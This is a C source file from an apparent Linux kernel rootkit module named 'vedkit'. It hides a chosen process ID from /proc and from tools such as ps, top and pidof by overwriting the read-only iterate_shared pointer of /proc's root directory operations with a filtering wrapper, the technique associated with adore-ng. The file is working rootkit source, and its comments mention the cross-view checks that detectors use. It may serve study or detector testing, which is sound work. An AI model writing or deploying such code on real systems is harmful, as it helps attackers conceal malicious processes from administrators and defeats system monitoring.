// SPDX-License-Identifier: GPL-2.0
/*
 * hide_pid: hide one process (hide_pid=) from the listing of /proc, hence
 * from ps, top and pidof.  The process keeps running and /proc/PID itself
 * stays reachable by name, as does kill(PID, 0): that is what cross-view
 * detectors compare with the listing.
 *
 * The technique of adore-ng and its heirs: hijack a VFS function pointer.
 * /proc's root directory is served by the const proc_root_operations;
 * vedkit replaces its iterate_shared with a wrapper that hands the real one
 * a dir_context whose actor drops the hidden pid's entry.  The structure is
 * in read-only memory: the write goes through vk_write_ro_ptr().
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/err.h>
#include <linux/fcntl.h>
#include <linux/fs.h>
#include <linux/kernel.h>
#include <linux/string.h>

#include "vedkit.h"

static struct file_operations *vk_proc_fops;
static int (*vk_proc_iterate_orig)(struct file *, struct dir_context *);
static char vk_pid_name[16];
static int vk_pid_len;

struct vk_proc_ctx {
	struct dir_context ctx;
	struct dir_context *orig;
};

static bool vk_proc_filldir(struct dir_context *ctx, const char *name,
			    int namlen, loff_t offset, u64 ino, unsigned int d_type)
{
	struct vk_proc_ctx *p = container_of(ctx, struct vk_proc_ctx, ctx);

	if (namlen == vk_pid_len && !memcmp(name, vk_pid_name, namlen))
		return true;	/* skipped, keep going */
	return p->orig->actor(p->orig, name, namlen, offset, ino, d_type);
}

static int vk_proc_iterate(struct file *file, struct dir_context *ctx)
{
	struct vk_proc_ctx p = {
		.ctx.actor = vk_proc_filldir,
		.ctx.pos = ctx->pos,
		.orig = ctx,
	};
	int ret;

	ret = vk_proc_iterate_orig(file, &p.ctx);
	ctx->pos = p.ctx.pos;
	return ret;
}

int vk_hide_pid_init(void)
{
	struct file *proc;
	int ret;

	if (vk_hide_pid <= 0)
		return -EINVAL;
	vk_pid_len = scnprintf(vk_pid_name, sizeof(vk_pid_name), "%d", vk_hide_pid);

	/* The operations behind a directory are one open() away. */
	proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
	if (IS_ERR(proc))
		return PTR_ERR(proc);
	vk_proc_fops = (struct file_operations *)proc->f_op;
	filp_close(proc, NULL);

	vk_proc_iterate_orig = vk_proc_fops->iterate_shared;
	if (!vk_proc_iterate_orig)
		return -ENOENT;
	ret = vk_write_ro_ptr(&vk_proc_fops->iterate_shared, vk_proc_iterate);
	if (ret)
		return ret;
	pr_info("/proc iterate_shared %ps -> %ps, hiding pid %d\n",
		vk_proc_iterate_orig, vk_proc_fops->iterate_shared, vk_hide_pid);
	return 0;
}

void vk_hide_pid_exit(void)
{
	vk_write_ro_ptr(&vk_proc_fops->iterate_shared, vk_proc_iterate_orig);
}
